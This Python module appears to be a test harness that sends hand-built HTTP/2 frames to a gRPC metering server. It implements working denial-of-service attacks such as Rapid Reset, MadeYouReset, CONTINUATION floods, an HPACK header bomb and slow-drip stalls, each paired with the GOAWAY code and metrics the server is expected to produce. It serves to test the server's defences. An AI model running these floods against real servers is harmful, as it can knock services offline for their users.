"""Rude HTTP/2 peers, one function for each attack, on raw sockets with frames made by hand.

Each takes a Target, does its worst for as long as it is let, and returns a Cut: how the server ended it, or that it did
not. `ATTACKS` lists them with what must come of each.
"""

import dataclasses
import select
import socket
import struct
import time
import uuid

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, HAS_PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
CANCEL, CALM = 0x8, 0xB
HEADER_TABLE_SIZE, INITIAL_WINDOW, MAX_FRAME = 1, 4, 5
METER = "/tollgate.v1.Metering/"
EMPTY_MESSAGE = bytes(5)
DEADLINE_S = 60


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def word(value):
    return struct.pack(">I", value)


def integer(value, bits, first=0):
    """An HPACK integer, RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def literal(name, value, indexed=False):
    """One header field; without indexing, so that a block is the same on every connection."""
    name, value = name.encode(), value.encode()
    return (b"\x40" if indexed else b"\x00") + integer(len(name), 7) + name + integer(len(value), 7) + value


def block(path=METER + "Charge", key=None, tenant=None, more=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "attack"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    if key:
        fields.append(("authorization", f"Bearer {key}"))
    if tenant:
        fields.append(("tollgate-tenant", tenant))
    return b"".join(literal(*field) for field in [*fields, *more])


def settings(*entries):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *entry) for entry in entries))


def headers(stream, fields, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, fields)


def grpc_message(body=b""):
    return b"\0" + word(len(body)) + body


@dataclasses.dataclass
class Target:
    """What an attacker knows of the server."""
    address: str
    key: str = None
    tenant: str = None
    long: bool = False

    def block(self, path=METER + "Charge", more=()):
        return block(path, self.key, self.tenant, more)

    def stranger(self, path=METER + "Charge", more=()):
        """The headers of somebody without a key."""
        return block(path, more=more)


@dataclasses.dataclass
class Cut:
    """How an attack ended: `by` is the GOAWAY's code, "closed", or None where the server let it go on."""
    by: object = None
    text: str = ""
    sent: int = 0


class Peer:
    """A connection that sends what it is told and reads only when it is told."""

    def __init__(self, target, preface=True, first=settings(), receive_buffer=None):
        host, port = target.address.rsplit(":", 1)
        self.socket = socket.socket()
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(DEADLINE_S)
        self.socket.connect((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = b""
        self.cut = Cut()
        self.decoder = hpack.Decoder()
        # The grpc-status of each stream that was answered, and the streams that the server reset.
        self.status, self.reset = {}, set()
        self.next_stream = 1
        if preface:
            self.send(PREFACE + first)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def stream(self):
        self.next_stream += 2
        return self.next_stream - 2

    def send(self, data):
        """Sends all of it; false where the server has closed."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.cut.by = self.cut.by or "closed"
            return False
        self.cut.sent += len(data)
        return True

    def frames(self, wait_s=0):
        """The whole frames that have come, or come within the time."""
        found = []
        while select.select([self.socket], [], [], wait_s)[0]:
            try:
                data = self.socket.recv(1 << 18)
            except OSError:
                data = b""
            if not data:
                self.cut.by = self.cut.by or "closed"
                break
            self.buffer += data
            wait_s = 0
        while len(self.buffer) >= 9:
            end = 9 + int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < end:
                break
            kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
            payload, self.buffer = self.buffer[9:end], self.buffer[end:]
            found.append((kind, flags, stream, payload))
            if kind == GOAWAY and int.from_bytes(payload[4:8], "big"):
                self.cut.by, self.cut.text = int.from_bytes(payload[4:8], "big"), payload[8:].decode()
            if kind == RST:
                self.reset.add(stream)
            if kind == HEADERS:
                fields = dict(self.decoder.decode(payload))
                if "grpc-status" in fields:
                    self.status[stream] = int(fields["grpc-status"])
        return found

    def wait_for_end(self, deadline_s=DEADLINE_S):
        """Reads until the server has ended the connection."""
        end = time.monotonic() + deadline_s
        while self.cut.by != "closed" and time.monotonic() < end:
            code, text = self.cut.by, self.cut.text
            self.frames(wait_s=0.2)
            if self.cut.by == "closed" and code is not None:
                self.cut.by, self.cut.text = code, text
                break
            if self.cut.by not in (None, "closed"):
                break
        return self.cut

    def call(self, fields, body, cancels=False):
        """One whole request, which may be cancelled with the next frame."""
        stream = self.stream()
        reset = frame(RST, 0, stream, word(CANCEL)) if cancels else b""
        self.send(headers(stream, fields) + frame(DATA, END_STREAM, stream, body) + reset)
        return stream

    def wait_for(self, streams, deadline_s=DEADLINE_S):
        """The grpc-status of each of these; None for those that were not answered."""
        end = time.monotonic() + deadline_s
        while not all(s in self.status or s in self.reset for s in streams) and time.monotonic() < end:
            if self.cut.by is not None:
                break
            self.frames(wait_s=0.2)
        return [self.status.get(s) for s in streams]

    def flood(self, make, frames, reads=True, batch=256):
        """Sends make(i) for each i, and stops when the server has ended the connection."""
        for start in range(0, frames, batch):
            if not self.send(b"".join(make(i) for i in range(start, min(frames, start + batch)))):
                break
            if reads:
                self.frames()
            if self.cut.by is not None:
                break
        return self.wait_for_end(1 if self.cut.by is None else DEADLINE_S)


def flood(make, frames=20_000, reads=True, first=settings(), opening=None):
    """An attack that sends many of the same: `make(peer, target, i)`."""
    def attack(target):
        with Peer(target, first=first) as peer:
            if opening:
                opening(peer, target)
            return peer.flood(lambda i: make(peer, target, i), frames * (10 if target.long else 1), reads)
    return attack


# Resets.

def rapid_reset(peer, target, i):
    stream = peer.stream()
    return headers(stream, target.stranger()) + frame(RST, 0, stream, word(CANCEL))


def rapid_reset_of_whole_requests(peer, target, i):
    stream = peer.stream()
    return (headers(stream, target.stranger()) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            + frame(RST, 0, stream, word(CANCEL)))


def keyed_rapid_reset(peer, target, i):
    stream = peer.stream()
    return headers(stream, target.block()) + frame(RST, 0, stream, word(CANCEL))


def resets_of_nothing(peer, target, i):
    return frame(RST, 0, 1, word(CANCEL))


# MadeYouReset: the server is made to reset.

def made_you_reset(bad):
    def make(peer, target, i):
        stream = peer.stream()
        return headers(stream, target.stranger()) + bad(stream)
    return make


MADE_YOU_RESET = {
    "window update of 0": lambda stream: frame(WINDOW_UPDATE, 0, stream, word(0)),
    "window overflow": lambda stream: frame(WINDOW_UPDATE, 0, stream, word((1 << 31) - 1)),
    "data on half-closed": lambda stream: frame(DATA, END_STREAM, stream) + frame(DATA, 0, stream, b"x"),
    "headers on half-closed": lambda stream: frame(DATA, END_STREAM, stream) + headers(stream, literal("a", "b")),
    "trailers that do not end": lambda stream: headers(stream, literal("a", "b")),
    "pseudo-header in trailers": lambda stream: headers(stream, literal(":path", "/"), END_HEADERS | END_STREAM),
    "self dependency": lambda stream: frame(PRIORITY, 0, stream, word(stream) + b"\0"),
    "priority of a wrong length": lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0"),
    "rst of a wrong length": lambda stream: frame(RST, 0, stream, b"\0\0\0"),
    "padding over the frame": lambda stream: frame(DATA, PADDED, stream, b"\xff\0"),
}


def malformed_request(field):
    """A request that HTTP/2 forbids: the server answers it with a reset."""
    def make(peer, target, i):
        return headers(peer.stream(), target.stranger(more=[field]))
    return make


def content_length_mismatch(peer, target, i):
    stream = peer.stream()
    return (headers(stream, target.stranger(more=[("content-length", "1")]))
            + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))


# Frames that cost the server more than their sender.

def open_stream(fields=None):
    def opening(peer, target):
        peer.send(headers(peer.stream(), fields or target.block()))
    return opening


def tiny_data(peer, target, i):
    return frame(DATA, 0, 1, b"\0")


def continuation_flood(target):
    with Peer(target) as peer:
        peer.send(headers(1, target.stranger(), 0))
        return peer.flood(lambda i: frame(CONTINUATION, 0, 1, literal("a", "b")), 20_000)


def header_bomb(peer, target, i):
    """One entry of the dynamic table, named thousands of times: few bytes on the wire are megabytes of headers."""
    stream = peer.stream()
    one = literal("bomb", "x" * 3_900, indexed=True)
    refs = b"\xbe" * 12_000
    return (headers(stream, target.stranger() + one, 0) + frame(CONTINUATION, 0, stream, refs) * 6
            + frame(CONTINUATION, END_HEADERS, stream, refs))


def table_resizing(peer, target, i):
    """Dynamic table size updates, down and up again, for as much as a block holds."""
    storm = (b"\x20" + integer(4096, 5, 0x20)) * 3_000
    return headers(peer.stream(), storm + target.stranger())


def cookie_crumbs(peer, target, i):
    crumbs = b"".join(literal("cookie", f"c{n}=1") for n in range(1_000))
    stream = peer.stream()
    return headers(stream, target.block(), 0) + frame(CONTINUATION, END_HEADERS, stream, crumbs)


def many_metadata(peer, target, i):
    stream = peer.stream()
    fields = b"".join(literal(f"x-{n}", "1") for n in range(1_200))
    return headers(stream, target.block(), 0) + frame(CONTINUATION, END_HEADERS, stream, fields)


def broken_base64(peer, target, i):
    return headers(peer.stream(), target.block(more=[("x-bin", "!" * 1_000)]), END_HEADERS | END_STREAM)


def trailers_flood(peer, target, i):
    stream = peer.stream()
    return (headers(stream, target.stranger()) + headers(stream, literal("a", "b" * 8_000), END_HEADERS | END_STREAM))


# Slow ones: the socket's end is what is awaited.

def drip(pieces, deadline_s=DEADLINE_S, preface=True):
    """Sends piece after piece, one in half a second, until the server has had enough."""
    def attack(target):
        with Peer(target, preface=preface) as peer:
            end = time.monotonic() + deadline_s
            for piece in pieces(target):
                if not peer.send(piece) or time.monotonic() > end:
                    break
                peer.frames(wait_s=0.5)
                if peer.cut.by is not None:
                    break
            return peer.wait_for_end(max(1, end - time.monotonic()))
    return attack


def nothing(target):
    return iter(())


def half_preface(target):
    return iter([PREFACE[:11]])


def preface_only(target):
    return iter([PREFACE])


def http1(target):
    return iter([b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n"])


def tls(target):
    return iter([bytes.fromhex("16030100f1010000ed0303") + bytes(230)])


def dripped_headers(target):
    whole = headers(1, target.stranger())
    yield from (whole[i:i + 1] for i in range(len(whole) - 1))


def dripped_continuations(target):
    yield headers(1, target.stranger(), 0)
    for _ in range(7):
        yield frame(CONTINUATION, 0, 1, literal("a", "b"))
        yield from [b""] * 8


# Streams that are opened and left alone.

def charge(credit_micros=1):
    """A framed ChargeRequest: its id and an amount."""
    text = str(uuid.uuid4()).encode()
    return grpc_message(b"\x0a" + bytes([len(text)]) + text + b"\x28" + bytes([credit_micros]))


def unfinished_requests(streams=400, body=b""):
    """Calls whose requests never end. What came of them: the grpc-status of each that was answered."""
    def attack(target):
        with Peer(target) as peer:
            peer.send(b"".join(
                headers(stream, target.block()) + frame(DATA, 0, stream, body) for stream in
                [peer.stream() for _ in range(streams)]))
            return answered(peer, streams)
    return attack


def answered(peer, streams, credited=()):
    """Waits until every stream was answered or reset; meanwhile some get a byte of window now and then."""
    ended, end, due = set(), time.monotonic() + DEADLINE_S, 0
    while len(ended) < streams and peer.cut.by is None and time.monotonic() < end:
        if time.monotonic() > due:
            due = time.monotonic() + 0.5
            peer.send(b"".join(frame(WINDOW_UPDATE, 0, s, word(1)) for s in credited if s not in ended))
        for kind, flags, stream, _ in peer.frames(wait_s=0.2):
            if kind == RST or kind == HEADERS and flags & END_STREAM:
                ended.add(stream)
    peer.cut.text = peer.cut.text or f"{len(ended)} of {streams} ended"
    return peer.cut


def gathered_megabytes(target, streams=300):
    """Messages of 4 MB, of each of which all comes but the last byte."""
    part = grpc_message(bytes(4_000_000))[:16_000]
    with Peer(target) as peer:
        opened = [peer.stream() for _ in range(streams)]
        for stream in opened:
            peer.send(headers(stream, target.block()) + frame(DATA, 0, stream, part))
        ended = set()
        for _ in range(60):
            for stream in opened:
                if stream not in ended and not peer.send(frame(DATA, 0, stream, part)):
                    return peer.cut
            for kind, flags, stream, _ in peer.frames():
                if kind == RST or kind == HEADERS and flags & END_STREAM:
                    ended.add(stream)
        peer.cut.text = f"{len(ended)} of {streams} ended"
        return peer.cut


def unread_answers(window=False):
    """Asks for pages of history and gives them no window, or a byte of it now and then."""
    def attack(target):
        with Peer(target, first=settings((INITIAL_WINDOW, 0))) as peer:
            streams = [peer.stream() for _ in range(200)]
            for stream in streams:
                peer.send(headers(stream, target.block("/tollgate.v1.Credits/ListTransactions"))
                          + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))
            return answered(peer, len(streams), credited=streams[:20] if window else ())
    return attack


def unread_socket(target):
    """Asks for much and reads nothing, so that the socket fills up."""
    with Peer(target, first=settings((INITIAL_WINDOW, (1 << 31) - 1)), receive_buffer=4_096) as peer:
        peer.send(frame(WINDOW_UPDATE, 0, 0, word(1 << 30)))
        for _ in range(900):
            stream = peer.stream()
            if not peer.send(headers(stream, target.block("/tollgate.v1.Credits/ListTransactions"))
                             + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)):
                break
        time.sleep(0.5)
        end = time.monotonic() + DEADLINE_S
        while time.monotonic() < end and peer.send(frame(WINDOW_UPDATE, 0, 0, word(1))):
            time.sleep(0.2)
        return peer.cut


FLOOD, GOAWAYS, TIMEOUT, LARGE = (
    "tollgate_http2_floods_total", "tollgate_http2_goaways_total", "tollgate_http2_timeouts_total",
    "tollgate_http2_large_header_blocks_total")


CONTROL = "control_frames"


@dataclasses.dataclass
class Attack:
    run: object
    """The GOAWAY's code that must come, "closed", any of several, or None where the attack is to be borne."""
    cut: tuple
    """The counters of which one must move, each with its label's value."""
    counters: tuple = ()
    """Whether it waits for a time-out, for which the tests have a server with short ones."""
    slow: bool = False


def constant(data, **more):
    return flood(lambda peer, target, i: data, **more)


def calm(run, kind, slow=False):
    """An attack that ends with GOAWAY ENHANCE_YOUR_CALM: its own budget is spent, or before it that of all frames."""
    return Attack(run, (CALM,), ((FLOOD, kind), (FLOOD, CONTROL)), slow)


def wrong(run):
    """An attack that nghttp2 finds wrong by itself, or that is over its budget before."""
    return Attack(run, (0x1, 0x5, 0x6, CALM, "closed"))


ATTACKS = {
    "rapid reset": calm(flood(rapid_reset), "resets"),
    "rapid reset, nothing read": calm(flood(rapid_reset, reads=False), "resets"),
    "rapid reset of whole requests": calm(flood(rapid_reset_of_whole_requests), "resets"),
    "rapid reset with a key": calm(flood(keyed_rapid_reset, frames=60_000), "resets"),
    "resets of one stream": calm(flood(resets_of_nothing, opening=open_stream()), CONTROL),
    **{f"made you reset: {name}": wrong(flood(made_you_reset(bad))) for name, bad in MADE_YOU_RESET.items()},
    "made you reset, nothing read": calm(
        flood(made_you_reset(MADE_YOU_RESET["window overflow"]), frames=60_000, reads=False), "provoked_resets"),
    **{f"made you reset: {name} in a request": calm(flood(malformed_request((name, value))), "provoked_resets")
       for name, value in [("connection", "x"), ("te", "gzip"), ("Upper", "x"), (":path", "/x"), ("bad name", "x"),
                           ("transfer-encoding", "chunked")]},
    "made you reset: content-length": calm(flood(content_length_mismatch), "provoked_resets"),
    "continuation": Attack(continuation_flood, (CALM,), ((GOAWAYS, "flood"),)),
    "settings": calm(constant(settings()), CONTROL),
    "settings, nothing read": calm(constant(settings(), reads=False), CONTROL),
    "settings that resize the table": calm(flood(lambda p, t, i: settings((HEADER_TABLE_SIZE, i % 2 * 4096))), CONTROL),
    "settings acknowledged unasked": wrong(constant(frame(SETTINGS, ACK))),
    "ping": Attack(constant(frame(PING, 0, 0, bytes(8))), (CALM,)),
    "ping acknowledged unasked": calm(constant(frame(PING, ACK, 0, bytes(8))), CONTROL),
    "empty data": calm(constant(frame(DATA, 0, 1), opening=open_stream()), CONTROL),
    "padding alone": calm(constant(frame(DATA, PADDED, 1, b"\xff" + bytes(255)), opening=open_stream()), CONTROL),
    "tiny data": calm(flood(tiny_data, opening=open_stream()), CONTROL),
    "priority": calm(constant(frame(PRIORITY, 0, 99, word(3) + b"\0")), CONTROL),
    "window update": calm(constant(frame(WINDOW_UPDATE, 0, 0, word(1))), CONTROL),
    "window update of a stream": calm(constant(frame(WINDOW_UPDATE, 0, 1, word(1)), opening=open_stream()), CONTROL),
    "unknown frames": calm(constant(frame(0x77)), CONTROL),
    "large unknown frames": calm(constant(frame(0x77, 0xFF, 1, bytes(16_000)), frames=5_000), CONTROL),
    "altsvc, origin and priority_update": calm(
        constant(frame(0xA, payload=b"\0\0") + frame(0xC) + frame(0x10, payload=word(1) + b"u=1")), CONTROL),
    "goaway": wrong(constant(frame(GOAWAY, 0, 0, bytes(8)))),
    "push promise": wrong(constant(frame(PUSH, END_HEADERS, 1, word(2) + literal("a", "b")), opening=open_stream())),
    "header bomb": calm(flood(header_bomb, frames=400), "header_bombs"),
    "table size updates": Attack(flood(table_resizing, frames=400), (None, CALM)),
    "cookie crumbs": Attack(flood(cookie_crumbs, frames=300), (None,), ((LARGE, None),)),
    "many metadata": Attack(flood(many_metadata, frames=300), (None,), ((LARGE, None),)),
    "broken base64": Attack(flood(broken_base64, frames=2_000), (None,)),
    "trailers": Attack(flood(trailers_flood, frames=1_000), (None,)),
    "HTTP/1.1": Attack(drip(http1, preface=False), ("closed",), ((GOAWAYS, "protocol"),)),
    "TLS": Attack(drip(tls, preface=False), ("closed",), ((GOAWAYS, "protocol"),)),
    "nothing said": Attack(drip(nothing, preface=False), ("closed",), ((TIMEOUT, "handshake"),), slow=True),
    "half a preface": Attack(drip(half_preface, preface=False), ("closed",), ((TIMEOUT, "handshake"),), slow=True),
    "no settings": Attack(drip(preface_only, preface=False), ("closed",), ((TIMEOUT, "handshake"),), slow=True),
    "dripped headers": Attack(drip(dripped_headers), ("closed",), ((TIMEOUT, "header_block"),), slow=True),
    "dripped continuations": Attack(
        drip(dripped_continuations), ("closed",), ((TIMEOUT, "header_block"),), slow=True),
    "requests that never end": Attack(unfinished_requests(), (None,), ((TIMEOUT, "request"),), slow=True),
    "messages that never end": Attack(
        unfinished_requests(body=grpc_message(bytes(100))[:40]), (None,), ((TIMEOUT, "request"),), slow=True),
    "messages whose end of stream never comes": Attack(
        unfinished_requests(body=charge()), (None,), ((TIMEOUT, "request"),), slow=True),
    "answers without a window": Attack(unread_answers(), (None,), ((TIMEOUT, "unread_stream"),), slow=True),
    "answers read by the byte": Attack(unread_answers(window=True), (None,), ((TIMEOUT, "unread_stream"),), slow=True),
    "a socket that is not read": Attack(unread_socket, ("closed",), ((TIMEOUT, "unread_output"),), slow=True),
}
